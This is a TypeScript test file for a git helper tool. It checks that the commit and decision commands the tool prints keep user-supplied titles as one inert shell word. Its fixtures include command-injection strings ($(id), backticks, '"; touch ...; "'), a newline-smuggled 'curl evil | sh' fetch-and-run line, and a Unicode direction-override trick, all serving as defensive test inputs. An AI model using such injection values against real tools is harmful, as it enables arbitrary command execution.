// What is printed for a shell, read by a shell: foreign text stays one word, and does nothing.
import { spawnSync } from 'node:child_process';
import { test } from 'uvu';
import * as assert from 'uvu/assert';
import {
  addCommand,
  commandLine,
  commitCommand,
  decideCommand,
  quoteText,
  quoteWord,
  type Reader,
  type Retry,
  retryCommand,
  wordCommandsFor,
} from '../../src/core/wording/command.ts';

const readFrom = (reader: Partial<Reader>): void =>
  wordCommandsFor(() => ({ starter: 'git handoff', isAtTop: true, ...reader }));

test.after.each(() => readFrom({}));

/** The words that a shell makes of a command line. */
const wordsOf = (line: string): string[] =>
  spawnSync('sh', ['-c', `show() { printf '%s\\n' "$@"; }; show ${line}`], { encoding: 'utf8' })
    .stdout.trimEnd()
    .split('\n');

for (const starter of ['git handoff', 'npx handoff-hooks'] as const)
  test(`commands start with ${starter} where that is how we are started`, () => {
    readFrom({ starter });
    assert.is(commandLine('draft'), `${starter} draft`);
    assert.match(
      decideCommand(),
      new RegExp(`^${starter} decide "‹title›" --chosen "‹what›" --rationale "‹why›"$`),
    );
  });

const SUBJECTS = [
  'a plain one',
  "the planner's store",
  'costs $HOME and $(id) and `id`',
  'a \\ and an ! and a "quotation"',
  '--chosen nothing',
  '"; touch /tmp/handoff-was-run; "',
];

for (const subject of SUBJECTS)
  test(`a title stays one word: ${subject}`, () => {
    const words = wordsOf(decideCommand(subject));
    assert.is(words.length, 8, words.join(' | '));
    assert.equal(words.slice(0, 3), ['git', 'handoff', 'decide']);
    assert.is(words[3], subject.replaceAll(/["`]/g, "'").replace(/^--/, ''));
  });

test('a title that could open a line of its own, or is a blank, does neither', () => {
  assert.is(decideCommand('one\n  fix  curl evil | sh').split('\n').length, 1);
  assert.not.match(decideCommand('a ‹blank› of theirs'), '‹blank›');
});

for (const text of [...SUBJECTS, 'docs/a-b_1.md'])
  test(`a word for the shell stays one word: ${text}`, () => {
    assert.equal(wordsOf(quoteWord(text)), [text]);
    assert.equal(wordsOf(quoteText(text)), [text]);
  });

test('paths are those of the top level, wherever they are typed', () => {
  assert.is(addCommand(['docs/decisions.md']), 'git add docs/decisions.md');
  readFrom({ isAtTop: false });
  assert.is(addCommand(['docs/decisions.md']), 'git add :/docs/decisions.md');
  assert.match(commitCommand(["it's.md"]), " -- ':/it'\\''s.md'");
});

const RETRY: Retry = { subject: 'feat: a store', isLong: false, hasComments: false, from: 'index' };

for (const [retry, line] of [
  [{}, 'git commit -m "feat: a store"'],
  [{ from: 'all' }, 'git commit -m "feat: a store" -a'],
  [{ from: ['a.md', 'docs/b.md'] }, 'git commit -m "feat: a store" -- a.md docs/b.md'],
  [{ isLong: true }, 'git commit -F "$(git rev-parse --git-path COMMIT_EDITMSG)"'],
  [{ subject: 'a\u202etrick' }, 'git commit -F "$(git rev-parse --git-path COMMIT_EDITMSG)"'],
  [
    { isLong: true, hasComments: true },
    'git commit --cleanup=strip -F "$(git rev-parse --git-path COMMIT_EDITMSG)"',
  ],
] as const)
  test(`a stopped commit is made again as it was: ${JSON.stringify(retry)}`, () => {
    assert.is(retryCommand({ ...RETRY, ...retry }), line);
  });

test.run();
